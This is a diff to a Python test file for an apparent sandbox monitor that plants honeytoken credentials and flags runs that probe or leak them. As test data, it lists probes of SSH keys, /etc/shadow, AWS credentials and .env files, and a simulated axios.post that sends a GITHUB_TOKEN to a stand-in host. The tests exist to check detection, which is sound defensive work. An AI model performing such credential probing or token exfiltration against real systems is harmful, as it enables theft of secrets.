@@ -75,9 +75,9 @@ def test_a_leak_through_the_same_sink_outranks_a_use():
     assert "use" not in hit
 
 
-def _findings(events, outside_events=(), honey=None):
+def _findings(events, outside_events=(), honey=None, exclude=()):
     honey = honey or honeytokens.new()
-    request = RunRequest(code="x = 1", honey=honey)
+    request = RunRequest(code="x = 1", honey=honey, exclude=tuple(exclude))
     result = RunResult(
         backend="bwrap",
         exit_code=0,
@@ -120,3 +120,46 @@ def test_the_supervisors_looks_at_secret_paths_are_probes():
     assert "stat/exists" in probes["/home/sandbox/.aws/credentials"]
     assert "access check" in probes["/etc/shadow"] and "listing" in probes["/home/sandbox/.ssh"]
     assert decide(load_effective(None, preset="balanced").policy, findings).verdict is Verdict.REVIEW
+
+
+def test_a_look_at_a_workspace_file_the_run_never_sees_is_no_probe():
+    """The project's own `.env` is withheld from the run (files.exclude): loading it, as dotenv does,
+    finds an empty file and is not a search for secrets. The same look outside the workspace, or at a
+    workspace file the policy does not withhold, still is."""
+    exclude = load_effective(None, preset="balanced").policy.files.exclude
+    outside = [
+        {"kind": "probe", "how": "stat", "path": "/workspace/.env", "count": 1},
+        {"kind": "probe", "how": "stat", "path": "/workspace/config/.env", "count": 1},
+        {"kind": "probe", "how": "stat", "path": "/home/sandbox/.env", "count": 1},
+        {"kind": "probe", "how": "stat", "path": "/workspace/../home/sandbox/.ssh/id_rsa", "count": 1},
+    ]
+    findings = _findings([], outside, exclude=exclude)
+    probes = {f.detail("path") for f in findings if f.rule == "secret.probe"}
+    assert probes == {"/home/sandbox/.env", "/workspace/../home/sandbox/.ssh/id_rsa"}, findings
+    kept = _findings([], outside[:1], exclude=())
+    assert [f.detail("path") for f in kept if f.rule == "secret.probe"] == ["/workspace/.env"]
+
+
+def test_npmrc_is_planted_with_the_npm_token():
+    honey = honeytokens.new()
+    files = dict(honey.files)
+    npmrc = files["/home/sandbox/.npmrc"]
+    assert npmrc.startswith("//registry.npmjs.org/:_authToken=") and honey.name_of(npmrc) == "NPM_TOKEN"
+
+
+def test_npm_network_clients_stand_ins_are_sinks():
+    """A JS stand-in network client (axios, missing from the sandbox) is read like Python's requests:
+    a service's key in a header to its own host is secret.use, the environment in a body is a leak."""
+    honey = honeytokens.new()
+    token = _value(honey, "GITHUB_TOKEN")
+    header = f'headers: {{Authorization: "Bearer {token}"}}'
+    use = {"kind": "standin-call", "what": "axios.get", "args": f'"https://api.github.com/user", {{{header}}}'}
+    use["auth"] = [header]
+    assert {f.rule for f in _findings([use], honey=honey)} >= {"secret.use"}
+    env = f'{{env: {{GITHUB_TOKEN: "{token}"}}}}'
+    leak = {"kind": "standin-call", "what": "axios.post", "args": f'"https://hooks.example.net/ci", {env}'}
+    findings = _findings([leak], honey=honey)
+    assert "secret.exfiltration" in {f.rule for f in findings}
+    assert decide(load_effective(None, preset="balanced").policy, findings).verdict is Verdict.BLOCK
+    not_a_client = {**leak, "what": "express().post"}
+    assert "secret.exfiltration" not in {f.rule for f in _findings([not_a_client], honey=honey)}
